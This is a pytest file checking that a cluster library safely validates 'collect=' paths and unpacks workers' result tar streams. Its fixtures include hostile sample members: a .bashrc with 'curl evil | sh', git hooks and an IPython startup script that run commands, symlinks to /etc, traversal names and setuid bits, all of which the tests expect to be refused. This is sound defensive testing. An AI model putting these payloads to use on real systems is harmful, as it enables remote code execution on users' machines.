"""collect= (cmlcluster/collect/paths.py): what may be named, refused before anything starts; and the two sides of
a worker's files coming home on crafted folders: the host's keep/send (backends/results_host.py) and the
session's unpack (backends/results_home.py), with a worker's stale shipped copies, links, the cap and two
workers' files of one name."""

from __future__ import annotations

import io
import logging
import os
import tarfile
import time

import pytest

from cmlcluster import Session
from cmlcluster.backends import Capabilities
from cmlcluster.backends.fake import FakeBackend
from cmlcluster.collect import paths as results
from cmlcluster.collect.home import Arrival, Homecoming
from cmlcluster.collect.on_host import keep, results_root, send
from cmlcluster.errors import ConfigError


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("", "collect entry '': an empty path names nothing"),
        (["outputs", "  "], "collect entry '  ': an empty path names nothing"),
        ("/home/me/project/outputs", "collect entry '/home/me/project/outputs': give a path relative"),
        ("../outputs", "collect entry '../outputs': '..' would leave the worker's working folder"),
        ("outputs/../../etc", "'..' would leave"),
        ("~/outputs", "collect entry '~/outputs': give a path relative to the worker's working folder"),
        (["outputs", 3], "collect entry 3: give a path as a string"),
        (7, "collect=7: give a path or a list of paths"),
        (b"outputs", "collect=b'outputs': give a path or a list of paths"),
    ],
)
def test_bad_collect_values_are_refused_naming_the_value_and_the_fix(value, said):
    with pytest.raises(ConfigError, match=r"e\.g\.|relative") as refused:
        results.check_collect(value)
    assert said in str(refused.value)


def test_collect_paths_are_normalized_and_each_taken_once():
    assert results.check_collect("checkpoints/") == ("checkpoints",)
    assert results.check_collect(None) == ()
    named = ["outputs/", "model.keras", "outputs/best", "./logs", "outputs"]
    assert results.check_collect(named) == ("outputs", "model.keras", "logs")
    assert results.check_collect([".", "outputs"]) == (".",)


def test_a_launch_with_bad_collect_starts_nothing(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    backend = FakeBackend()
    with Session(backend, echo=False) as session:
        with pytest.raises(ConfigError, match=r"collect entry '/abs/out'"):
            session.launch_workers(1, cpu=1, memory=1, code="pass", collect=["outputs", "/abs/out"])
        assert session.list_workers() == [] and backend.handles == {}


def test_workers_that_see_the_working_folder_need_nothing_to_come_home(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    sees_all = Capabilities(own_address=False, session_host=True, python="python3", shared_paths=("/",))
    with Session(FakeBackend(capabilities=sees_all), echo=False) as session:
        [worker] = session.launch_workers(1, cpu=1, memory=1, code="pass", collect="outputs")
        assert session.await_workers([worker], timeout_seconds=10)["failures"] == []


@pytest.fixture
def host(tmp_path, monkeypatch):
    """A worker's folder on a "host" whose temp folder is this test's; returns that folder."""
    temp = tmp_path / "host-tmp"
    temp.mkdir()
    monkeypatch.setenv("TMPDIR", str(temp))
    monkeypatch.setattr("tempfile.tempdir", None)
    work = tmp_path / "work"
    work.mkdir()
    return work


def write(path, text, age=0.0):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    if age:
        then = time.time() - age
        os.utime(path, (then, then))


def sent(worker_id):
    out, err = io.BytesIO(), io.StringIO()
    assert send(worker_id, results.cap_bytes(), out, err) == 0
    return out.getvalue(), err.getvalue()


def test_the_host_keeps_what_the_worker_wrote_and_sends_it_once(host, tmp_path, caplog):
    started = time.time()
    write(host / "outputs" / "model.keras", "new model")
    write(host / "outputs" / "logs" / "epoch-1.txt", "loss 0.5")
    write(host / "outputs" / "shipped.yaml", "lr: 0.1", age=3600)  # shipped to it long before, unchanged
    os.symlink("/etc/passwd", host / "outputs" / "passwd")
    write(host / "train.py", "print('train')")  # not named
    keep(str(host), "s1-0", ["outputs", "model.keras"], started)
    stream, report = sent("s1-0")
    assert '"files": 2' in report and "outputs/passwd -> /etc/passwd" in report
    assert '"missing": ["model.keras"]' in report
    assert not os.path.exists(results_root())  # sent and gone, with the root (the last one out)
    assert sent("s1-0") == (b"", sent("s1-0")[1]) and '"kept": false' in sent("s1-0")[1]  # only once

    session = tmp_path / "session"
    session.mkdir()
    arrival = Arrival("s1-0", str(session), ("outputs", "model.keras"))
    Homecoming().unpack([stream], arrival)
    assert (session / "outputs" / "model.keras").read_text() == "new model"
    assert (session / "outputs" / "logs" / "epoch-1.txt").read_text() == "loss 0.5"
    assert not (session / "outputs" / "shipped.yaml").exists() and not (session / "outputs" / "passwd").exists()
    assert sorted(os.listdir(session / "outputs")) == ["logs", "model.keras"]  # no temporary names left
    assert (arrival.files, arrival.bytes) == (2, len("new model") + len("loss 0.5"))
    with caplog.at_level(logging.INFO, logger="cmlcluster.collect.home"):
        arrival.say({"links": ["outputs/passwd -> /etc/passwd"], "links_count": 1, "missing": ["model.keras"]})
    said = [r.getMessage() for r in caplog.records]
    assert any("stayed behind" in m and "outputs/passwd -> /etc/passwd" in m for m in said), said
    assert any("had no model.keras" in m for m in said), said


def test_a_collected_link_is_followed_inside_the_folder_but_never_out_of_it(host, tmp_path):
    started = time.time()
    write(host / "runs" / "7" / "weights.bin", "w7")
    os.symlink("runs/7", host / "latest")
    os.symlink("/etc", host / "etc")
    keep(str(host), "s1-1", ["latest", "etc"], started)
    stream, report = sent("s1-1")
    assert "etc -> /etc" in report
    arrival = Arrival("s1-1", str(tmp_path), ("latest", "etc"))
    Homecoming().unpack([stream], arrival)
    assert (tmp_path / "latest" / "weights.bin").read_text() == "w7" and not (tmp_path / "latest").is_symlink()


def test_the_cap_leaves_the_rest_behind_and_names_it(host, monkeypatch):
    monkeypatch.setenv("CMLCLUSTER_COLLECT_CAP_MB", str(10 / 2**20))  # 10 bytes
    started = time.time()
    write(host / "out" / "a", "12345")
    write(host / "out" / "b", "123456789")
    write(host / "out" / "c", "1234")
    keep(str(host), "s1-2", ["out"], started)
    _, report = sent("s1-2")
    assert '"files": 2' in report and '"over_cap": ["out/b"]' in report and '"over_cap_count": 1' in report


def test_two_workers_files_of_one_name_are_both_kept_and_said_once(tmp_path, caplog):
    home = Homecoming()

    def arrive(worker, files):
        import tarfile

        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as tar:
            for name, text in files.items():
                info = tarfile.TarInfo(name)
                info.size, info.mtime = len(text), time.time()
                tar.addfile(info, io.BytesIO(text.encode()))
        arrival = Arrival(worker, str(tmp_path), ("outputs",))
        home.unpack([buffer.getvalue()], arrival)
        with caplog.at_level(logging.WARNING, logger="cmlcluster.collect.home"):
            arrival.say({})
        return arrival

    arrive("s2-0", {"outputs/metrics.json": "rank 0", "outputs/same.txt": "same"})
    assert not caplog.records
    arrival = arrive("s2-1", {"outputs/metrics.json": "rank 1", "outputs/same.txt": "same"})
    assert (tmp_path / "outputs" / "metrics.json").read_text() == "rank 1"  # the later one keeps the name
    assert (tmp_path / "outputs" / "metrics.json.s2-0").read_text() == "rank 0"  # the earlier is kept beside it
    assert not (tmp_path / "outputs" / "same.txt.s2-0").exists()  # the same contents: nothing to keep twice
    assert arrival.conflicts == {"s2-0": [("outputs/metrics.json", "outputs/metrics.json.s2-0")]}
    [said] = [r.getMessage() for r in caplog.records]
    assert "workers s2-0 and s2-1 both wrote outputs/metrics.json with different contents" in said
    assert "(worker s2-0's now outputs/metrics.json.s2-0)" in said


def test_names_that_would_leave_the_folder_and_links_are_never_written(tmp_path):
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name in ("../escaped", "/abs", "ok/../../up"):
            info = tarfile.TarInfo(name)
            info.size = 1
            tar.addfile(info, io.BytesIO(b"x"))
        link = tarfile.TarInfo("outputs/link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        tar.addfile(link)
    (tmp_path / "session").mkdir()
    arrival = Arrival("s3-0", str(tmp_path / "session"), (".",))
    Homecoming().unpack([buffer.getvalue()], arrival)
    assert arrival.files == 0 and len(arrival.behind) == 4, arrival.behind
    assert os.listdir(tmp_path / "session") == [] and sorted(os.listdir(tmp_path)) == ["session"]


def test_runs_refuse_bad_collect_before_anything_starts(tmp_path):
    from cmlcluster import run_horovod, run_torch, start_cluster

    script = tmp_path / "train.py"
    script.write_text("print('train')\n")
    with pytest.raises(ConfigError, match="collect entry '/out': give a path relative"):
        run_torch(str(script), collect="/out", echo=False)
    with pytest.raises(ConfigError, match=r"collect entry '\.\./x'"):
        run_horovod(str(script), collect=["outputs", "../x"], echo=False)
    with pytest.raises(ConfigError, match="collect= with reuse: kept workers do not end"):
        run_horovod(str(script), collect="outputs", reuse=True, echo=False)
    with pytest.raises(ConfigError, match="collect entry '': an empty path"):
        start_cluster(1, collect="")


@pytest.mark.parametrize("framework", ["horovod", "pytorch"])
def test_the_magics_collect_option_reaches_the_run(framework, monkeypatch):
    import argparse
    import importlib

    options = importlib.import_module(f"cmlcluster.{framework}.options")
    run = importlib.import_module(f"cmlcluster.{framework}.run")
    called = {}
    name = "run_horovod" if framework == "horovod" else "run_torch"
    monkeypatch.setattr(run, name, lambda *args, **kwargs: called.update(kwargs))
    parser = argparse.ArgumentParser()
    options.add_options(parser)
    options.run(parser.parse_args(["--collect", "outputs", "--collect", "model.keras"]), "train.py", [])
    assert called["collect"] == ["outputs", "model.keras"]
    options.run(parser.parse_args([]), "train.py", [])
    assert called["collect"] is None


# ---------------------------------------------------------------- a hostile stream, at the session's end
# What a worker's end sends is a worker's word (its program, or whoever took its host, wrote it): these
# streams are crafted as such a host or agent could send them, and the session's end alone decides.


def stream(*members) -> bytes:
    """A tar stream of (name, contents, mode) files, or (name, None, link target) symbolic links."""
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data, mode in members:
            info = tarfile.TarInfo(name)
            info.mtime = time.time()
            if data is None:
                info.type, info.linkname = tarfile.SYMTYPE, mode
                tar.addfile(info)
            else:
                info.size, info.mode = len(data), mode
                tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


HOSTILE = (
    (".ipython/profile_default/startup/00-x.py", b"import os; os.system('touch /tmp/pwned')", 0o644),
    (".git/hooks/post-checkout", b"#!/bin/sh\ntouch /tmp/pwned\n", 0o755),
    ("train.py", b"print('not yours')", 0o644),
    (".bashrc", b"curl evil | sh", 0o644),
)


@pytest.fixture
def session_folder(tmp_path):
    folder = tmp_path / "session"
    folder.mkdir()
    write(folder / "train.py", "print('train')")
    return folder


def unpacked(folder, collect, data, caplog, worker="s9-0", home=None):
    """Unpack `data` as worker `worker` of a run with these collect= paths; (arrival, its warnings)."""
    arrival = Arrival(worker, str(folder), results.check_collect(collect))
    (home or Homecoming()).unpack([data], arrival)
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="cmlcluster.collect.home"):
        arrival.say({})
    return arrival, [r.getMessage() for r in caplog.records]


def files_in(folder) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if not p.is_dir() or p.is_symlink())


def test_members_outside_the_collect_paths_are_dropped_and_named_in_one_warning(session_folder, caplog):
    extra = tuple((f"notes/{i}.txt", b"x", 0o644) for i in range(6))
    data = stream(*HOSTILE, ("outputs/model.txt", b"trained", 0o644), *extra)
    arrival, said = unpacked(session_folder, ["outputs"], data, caplog)
    assert files_in(session_folder) == ["outputs/model.txt", "train.py"]
    assert (session_folder / "train.py").read_text() == "print('train')"
    assert (arrival.files, arrival.not_asked_count) == (1, 10)
    [warning] = said
    assert "it sent 10 files that collect=['outputs'] does not ask for, dropped: " in warning
    assert ".ipython/profile_default/startup/00-x.py, .git/hooks/post-checkout, train.py, .bashrc" in warning
    assert "and 5 more" in warning


def test_dot_asks_for_all_but_the_hidden_top_level_entries_which_are_asked_for_by_name(session_folder, caplog):
    data = stream(*HOSTILE[:2], (".bashrc", b"x", 0o644), ("src/.keep", b"", 0o644), ("a/.zattrs", b"{}", 0o644))
    arrival, said = unpacked(session_folder, ["."], data, caplog)
    assert files_in(session_folder) == ["a/.zattrs", "src/.keep", "train.py"]
    assert arrival.not_asked_count == 0 and arrival.left_out_count == 3 and said == []  # said at INFO
    assert results.check_collect([".", ".config", "outputs"]) == (".", ".config")
    unpacked(session_folder, [".", ".config"], stream((".config/app.toml", b"x", 0o644)), caplog)
    assert (session_folder / ".config" / "app.toml").read_text() == "x"


def test_execute_bits_only_where_the_worker_had_them_and_never_set_id_bits(session_folder, caplog):
    data = stream(
        ("outputs/run.sh", b"#!/bin/sh\n", 0o4755),
        ("outputs/all.sh", b"#!/bin/sh\n", 0o7777),
        ("outputs/data.csv", b"1,2\n", 0o666),
        ("outputs/own.bin", b"\0", 0o700),
        (".git/hooks/post-checkout", b"#!/bin/sh\n", 0o755),
    )
    unpacked(session_folder, ["outputs"], data, caplog)

    def mode(name):
        return os.stat(session_folder / "outputs" / name).st_mode & 0o7777

    assert (mode("run.sh"), mode("all.sh"), mode("data.csv"), mode("own.bin")) == (0o755, 0o755, 0o644, 0o700)
    assert not (session_folder / ".git").exists()


def test_a_file_that_was_here_before_is_kept_and_the_workers_is_written_beside_it(session_folder, caplog):
    write(session_folder / "outputs" / "same.txt", "same")
    os.symlink("run-7", session_folder / "outputs" / "latest")  # the user's own link, named by the worker
    data = stream(
        ("train.py", b"print('not yours')", 0o755),
        ("outputs/same.txt", b"same", 0o644),  # identical: kept once, nothing said
        ("outputs/latest", b"a file now", 0o644),
    )
    arrival, [warning] = unpacked(session_folder, ["."], data, caplog)
    assert (session_folder / "train.py").read_text() == "print('train')"
    assert (session_folder / "train.py.s9-0").read_text() == "print('not yours')"
    assert os.readlink(session_folder / "outputs" / "latest") == "run-7"
    assert (session_folder / "outputs" / "latest.s9-0").read_text() == "a file now"
    assert files_in(session_folder / "outputs") == ["latest", "latest.s9-0", "same.txt"]
    assert arrival.beside == [("train.py", "train.py.s9-0"), ("outputs/latest", "outputs/latest.s9-0")]
    assert "these were here before and are kept as they were, the worker's written beside them" in warning
    assert "train.py (the worker's is train.py.s9-0)" in warning

    # A worker's file the user changed since it came is the user's: the next worker's goes beside it.
    home = Homecoming()
    unpacked(session_folder, ["outputs"], stream(("outputs/m.txt", b"1", 0o644)), caplog, "s9-1", home)
    write(session_folder / "outputs" / "m.txt", "edited by the user")
    unpacked(session_folder, ["outputs"], stream(("outputs/m.txt", b"2", 0o644)), caplog, "s9-2", home)
    assert (session_folder / "outputs" / "m.txt").read_text() == "edited by the user"
    assert (session_folder / "outputs" / "m.txt.s9-2").read_text() == "2"


def test_nothing_is_written_through_a_link_the_users_own_included(session_folder, tmp_path, caplog):
    outside = tmp_path / "outside"
    (outside / "deep").mkdir(parents=True)
    os.symlink(outside, session_folder / "outputs")  # the user's own link, out of the folder
    (session_folder / "inside").mkdir()
    os.symlink("../outputs", session_folder / "inside" / "up")
    data = stream(
        ("outputs/model.txt", b"x", 0o644),
        ("outputs/deep/x.py", b"x", 0o644),
        ("inside/up/y.py", b"x", 0o644),
        ("outputs2/link", None, "/etc"),
        ("outputs2/then/z", b"x", 0o644),
    )
    _, [warning] = unpacked(session_folder, ["outputs", "inside", "outputs2"], data, caplog)
    assert list(outside.rglob("*")) == [outside / "deep"]
    assert files_in(session_folder) == ["inside/up", "outputs", "outputs2/then/z", "train.py"]
    assert "outputs/model.txt (outputs is a link here, and nothing is written through one)" in warning
    assert "inside/up/y.py (inside/up is a link here" in warning
    assert "outputs2/link (a link, never followed out of a folder)" in warning


def test_the_file_count_cap_leaves_the_rest_behind_and_says_so(session_folder, monkeypatch, caplog):
    monkeypatch.setenv("CMLCLUSTER_COLLECT_CAP_FILES", "1000")
    data = stream(*((f"outputs/f{i:04}", b"", 0o644) for i in range(2000)))
    arrival, [warning] = unpacked(session_folder, ["outputs"], data, caplog)
    assert arrival.files == 1000 and len(os.listdir(session_folder / "outputs")) == 1000
    assert "past the 1000-file cap (CMLCLUSTER_COLLECT_CAP_FILES): the rest" in warning


def test_the_host_sends_no_more_files_than_the_cap(host, monkeypatch):
    started = time.time()
    for i in range(5):
        write(host / "out" / f"f{i}", "")
    keep(str(host), "s9-3", ["out"], started)
    out, err = io.BytesIO(), io.StringIO()
    assert send("s9-3", results.cap_bytes(), out, err, 3) == 0
    assert '"files": 3' in err.getvalue() and '"over_files_cap": ["out/f3", "out/f4"]' in err.getvalue()


def test_a_flood_of_entries_is_read_no_further_than_the_cap_allows(session_folder, monkeypatch, caplog):
    monkeypatch.setenv("CMLCLUSTER_COLLECT_CAP_FILES", "10")
    data = stream(*((f"elsewhere/{i}", b"", 0o644) for i in range(2000)))
    read = []

    def chunks():
        for i in range(0, len(data), 512):
            read.append(i)
            yield data[i : i + 512]

    arrival = Arrival("s9-4", str(session_folder), ("outputs",))
    Homecoming().unpack(chunks(), arrival)
    assert arrival.not_asked_count == 40 and len(read) < 200  # of 8000 blocks
    assert arrival.behind == ["the rest (the stream held more than 40 entries)"]


def test_a_hostile_hosts_send_writes_only_what_collect_asks_for(session_folder, tmp_path, caplog):
    """The SSH backend's end (backends/ssh/collect._fetch) against a "host" whose send is a crafted program."""
    import sys

    from cmlcluster.backends.ssh.collect import _fetch
    from cmlcluster.workers import Resources, WorkerSpec

    crafted = tmp_path / "crafted.tar"
    crafted.write_bytes(stream(*HOSTILE, ("outputs/model.txt", b"trained", 0o644)))
    code = (
        "import shutil, sys\n"
        f"shutil.copyfileobj(open({str(crafted)!r}, 'rb'), sys.stdout.buffer)\n"
        'print(\'{"kept": true, "files": 5, "bytes": 9}\', file=sys.stderr)\n'
    )
    spec = WorkerSpec("s9-5", 0, (), {}, Resources(1, 1), str(session_folder), collect=("outputs",))
    with caplog.at_level(logging.WARNING, logger="cmlcluster"):
        _fetch(Homecoming(), [sys.executable, "-c", code], spec, "host")
    assert files_in(session_folder) == ["outputs/model.txt", "train.py"]
    assert (session_folder / "train.py").read_text() == "print('train')"
    [said] = [r.getMessage() for r in caplog.records]
    assert "it sent 4 files that collect=['outputs'] does not ask for, dropped: .ipython/" in said


def pax_stream(*members) -> bytes:
    """A tar stream of (name, contents, PAX records) files: records such as a worker's end could craft."""
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data, records in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.pax_headers = len(data), time.time(), dict(records)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def test_times_no_clock_holds_neither_lose_the_file_nor_break_the_stream(session_folder, caplog):
    data = pax_stream(
        *((f"outputs/{t}.txt", t.encode(), {"mtime": t}) for t in ("nan", "1e300", "-1e300", "inf")),
        ("outputs/ok", b"x", {"path": "outputs/a\0b"}),  # a name no folder can hold: it stays behind, named
        ("outputs/after.txt", b"after", {}),
        ("outputs/bad-size", b"x", {"size": "-5"}),  # tarfile reads no further
    )
    _, [warning] = unpacked(session_folder, ["outputs"], data, caplog)
    assert files_in(session_folder / "outputs") == ["-1e300.txt", "1e300.txt", "after.txt", "inf.txt", "nan.txt"]
    assert (session_folder / "outputs" / "1e300.txt").read_text() == "1e300"
    assert abs(os.stat(session_folder / "outputs" / "nan.txt").st_mtime - time.time()) < 60  # written now
    assert "outputs/a\0b (ValueError: embedded null byte)" in warning
    assert "outputs/bad-size (a size below 0)" in warning


@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME], ids=["pax", "gnu long name"])
def test_an_extended_header_claiming_more_than_a_name_needs_ends_the_stream_before_it_is_read(session_folder, kind):
    def chunks():
        yield stream(("outputs/one.txt", b"1", 0o644))[:2048]  # its headers and contents
        header = tarfile.TarInfo("././@LongHeader")
        header.type, header.size = kind, 1 << 32  # 4 GiB that tarfile would read into memory
        yield header.tobuf(format=tarfile.USTAR_FORMAT)
        yield b"x" * 512  # all a hostile sender need send; nothing of it must be read
        raise AssertionError("read past a header that claims too much")

    arrival = Arrival("s9-8", str(session_folder), ("outputs",))
    Homecoming().unpack(chunks(), arrival)
    assert arrival.files == 1
    [rest] = arrival.behind
    assert rest.startswith("the rest (the stream broke off: an extended header of 4294967296 bytes")


def test_nothing_a_stream_holds_raises_out_of_unpack(session_folder, monkeypatch):
    def chunks():
        yield stream(("outputs/one.txt", b"1", 0o644))[:2048]  # its header and contents, then a failure
        raise RuntimeError("the source failed")

    arrival = Arrival("s9-6", str(session_folder), ("outputs",))
    Homecoming().unpack(chunks(), arrival)
    assert arrival.files == 1 and arrival.behind == ["the rest (RuntimeError: the source failed)"]

    monkeypatch.setattr(Homecoming, "_file", lambda *args: 1 / 0)  # anything unforeseen, per member
    arrival = Arrival("s9-7", str(session_folder), ("outputs",))
    Homecoming().unpack([stream(("outputs/two.txt", b"2", 0o644))], arrival)
    assert arrival.behind == ["the rest (ZeroDivisionError: division by zero)"]


def test_a_git_folder_or_byte_code_at_any_depth_comes_only_when_named(session_folder, caplog):
    hooks = b"#!/bin/sh\ntouch /tmp/pwned\n"
    data = stream(
        ("repo/.git/hooks/post-checkout", hooks, 0o755),
        ("outputs/clone/.GIT/hooks/pre-commit", hooks, 0o755),  # the same folder on macOS
        ("outputs/clone/.git/config", b"[core]", 0o644),
        ("__pycache__/train.cpython-311.pyc", b"planted", 0o644),
        ("src/pkg/__pycache__/util.cpython-311.pyc", b"planted", 0o644),
        ("outputs/model.txt", b"trained", 0o644),
        ("outputs/.keep", b"", 0o644),
        ("repo/.gitignore", b"*.pyc", 0o644),
    )
    arrival, said = unpacked(session_folder, ["."], data, caplog)
    assert files_in(session_folder) == ["outputs/.keep", "outputs/model.txt", "repo/.gitignore", "train.py"]
    assert said == [] and arrival.not_asked_count == 0 and arrival.left_out_count == 5
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="cmlcluster.collect.home"):
        arrival.say({})
    [info] = [r.getMessage() for r in caplog.records if "only when named" in r.getMessage()]
    assert "5 files that collect= brings only when named, left out: repo/.git/hooks/post-checkout" in info

    for collect in (["outputs"], ["outputs/clone"]):
        unpacked(session_folder, collect, data, caplog)
        assert not (session_folder / "outputs" / "clone").exists()
    assert results.check_collect(["outputs", "outputs/clone/.git", "src"]) == ("outputs", "outputs/clone/.git", "src")
    unpacked(session_folder, ["outputs", "outputs/clone/.git", "src"], data, caplog)
    assert files_in(session_folder / "outputs" / "clone") == [".git/config"]
    assert not (session_folder / "src" / "pkg" / "__pycache__").exists()
    for name, collect in (
        ("a/.git/x", ["a/.git"]),
        ("a/.git/x", ["a/.git/x"]),
        ("a/__pycache__/m.pyc", ["a/__pycache__"]),
        (".config/x", [".", ".config"]),
    ):
        assert results.asked_for(collect, name), (name, collect)
    for name, collect in (
        ("a/.git/x", ["a"]),
        ("a/.git/x", ["."]),
        ("a/.Git/x", ["."]),
        ("a/.g\u200cit/x", ["."]),
        ("a/__PYCACHE__/m.pyc", ["a"]),
        ("a/.git/b/.git/x", ["a/.git"]),
        ("x/y", ["x/.git"]),
    ):
        assert not results.asked_for(collect, name), (name, collect)


def test_the_host_keeps_no_git_folder_or_byte_code_it_was_not_asked_for(host, tmp_path):
    started = time.time()
    write(host / "repo" / ".git" / "hooks" / "post-checkout", "#!/bin/sh")
    write(host / "__pycache__" / "train.cpython-311.pyc", "byte code")
    write(host / ".ipython" / "profile_default" / "startup" / "00.py", "print()")
    write(host / "outputs" / "model.txt", "trained")
    keep(str(host), "s9-8", ["."], started)
    data, report = sent("s9-8")
    assert '"files": 1' in report
    import tarfile

    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        assert tar.getnames() == ["outputs/model.txt"]


def test_files_shipped_unchanged_are_skipped_without_a_word(session_folder, caplog):
    """A container's archive holds every file of a collect= path, the shipped ones too: those it did not
    change are neither written nor said, whatever their names."""
    old = time.time() - 3600
    data = pax_stream(
        (".gitignore", b"*.pyc", {"mtime": str(old)}),
        (".vscode/settings.json", b"{}", {"mtime": str(old)}),
        ("src/.git/HEAD", b"ref", {"mtime": str(old)}),
        ("outputs/model.txt", b"trained", {}),
    )
    arrival = Arrival("s9-9", str(session_folder), (".",))
    Homecoming().unpack([data], arrival, since=time.time() - 60)
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="cmlcluster.collect.home"):
        arrival.say({})
    assert files_in(session_folder) == ["outputs/model.txt", "train.py"]
    assert [r.levelname for r in caplog.records] == ["INFO"] and "1 file" in caplog.records[0].getMessage()


def test_a_file_beside_one_that_was_here_never_replaces_another(session_folder, caplog):
    write(session_folder / "train.py.s9-0", "the user's own")
    os.mkdir(session_folder / "train.py.s9-0.1")
    _, [warning] = unpacked(session_folder, ["."], stream(("train.py", b"worker's", 0o644)), caplog)
    assert (session_folder / "train.py").read_text() == "print('train')"
    assert (session_folder / "train.py.s9-0").read_text() == "the user's own"
    assert (session_folder / "train.py.s9-0.2").read_text() == "worker's"
    assert "train.py (the worker's is train.py.s9-0.2)" in warning

    # Two workers' files of one name: the earlier one's is kept beside under a free name too.
    home = Homecoming()
    write(session_folder / "outputs" / "m.json.s9-1", "the user's own")
    unpacked(session_folder, ["outputs"], stream(("outputs/m.json", b"rank 0", 0o644)), caplog, "s9-1", home)
    _, [warning] = unpacked(
        session_folder, ["outputs"], stream(("outputs/m.json", b"rank 1", 0o644)), caplog, "s9-2", home
    )
    assert (session_folder / "outputs" / "m.json").read_text() == "rank 1"
    assert (session_folder / "outputs" / "m.json.s9-1").read_text() == "the user's own"
    assert (session_folder / "outputs" / "m.json.s9-1.1").read_text() == "rank 0"
    assert "(worker s9-1's now outputs/m.json.s9-1.1)" in warning


def test_a_file_made_here_while_the_workers_came_is_not_replaced(session_folder, caplog, monkeypatch):
    from cmlcluster.collect import home as results_home

    looked = results_home._lstat

    def user_writes_meanwhile(name, folder):  # the user's file appears between the look and the rename
        found = looked(name, folder)
        if name == "late.txt" and found is None:
            os.close(os.open("late.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=folder))
        return found

    monkeypatch.setattr(results_home, "_lstat", user_writes_meanwhile)
    _, [warning] = unpacked(session_folder, ["."], stream(("late.txt", b"worker's", 0o644)), caplog)
    assert (session_folder / "late.txt").read_text() == ""
    assert (session_folder / "late.txt.s9-0").read_text() == "worker's"
    assert "late.txt (the worker's is late.txt.s9-0)" in warning


def test_a_hosts_report_of_the_wrong_shape_is_read_as_empty_and_said(session_folder, tmp_path, caplog):
    import sys

    from cmlcluster.backends.ssh.collect import _fetch
    from cmlcluster.workers import Resources, WorkerSpec

    crafted = tmp_path / "crafted.tar"
    crafted.write_bytes(stream(("outputs/model.txt", b"trained", 0o644)))
    bad = (
        '{"kept": true, "over_cap_count": "9", "over_cap": 5, "links_count": 2, "links": "abc", '
        '"errors": 7, "missing": [1], "over_files_cap_count": 1, "over_files_cap": {"a": 1}}'
    )
    code = (
        "import shutil, sys\n"
        f"shutil.copyfileobj(open({str(crafted)!r}, 'rb'), sys.stdout.buffer)\n"
        f"print({bad!r}, file=sys.stderr)\n"
    )
    spec = WorkerSpec("s9-10", 0, (), {}, Resources(1, 1), str(session_folder), collect=("outputs",))
    with caplog.at_level(logging.WARNING, logger="cmlcluster"):
        _fetch(Homecoming(), [sys.executable, "-c", code], spec, "host")
    assert files_in(session_folder) == ["outputs/model.txt", "train.py"]
    said = [r.getMessage() for r in caplog.records]
    [shape] = [m for m in said if "report on its collect= files" in m]
    assert "worker s9-10's report on its collect= files is not as a host or agent writes it" in shape
    for key in ("over_cap", "over_cap_count", "links", "errors", "missing", "over_files_cap"):
        assert key in shape


def test_where_the_file_system_has_no_hard_links_nothing_is_replaced_either(session_folder, caplog, monkeypatch):
    import errno

    from cmlcluster.collect import home as results_home

    def no_links(*args, **kwargs):
        raise OSError(errno.EOPNOTSUPP, "Operation not supported")

    monkeypatch.setattr(results_home.os, "link", no_links)
    write(session_folder / "train.py.s9-0", "the user's own")
    home = Homecoming()
    unpacked(session_folder, ["."], stream(("train.py", b"1", 0o644), ("m.txt", b"0", 0o644)), caplog, "s9-0", home)
    unpacked(session_folder, ["."], stream(("m.txt", b"1", 0o644)), caplog, "s9-1", home)
    assert files_in(session_folder) == ["m.txt", "m.txt.s9-0", "train.py", "train.py.s9-0", "train.py.s9-0.1"]
    assert [(session_folder / n).read_text() for n in ("m.txt", "m.txt.s9-0", "train.py.s9-0", "train.py.s9-0.1")] == [
        "1",
        "0",
        "the user's own",
        "1",
    ]
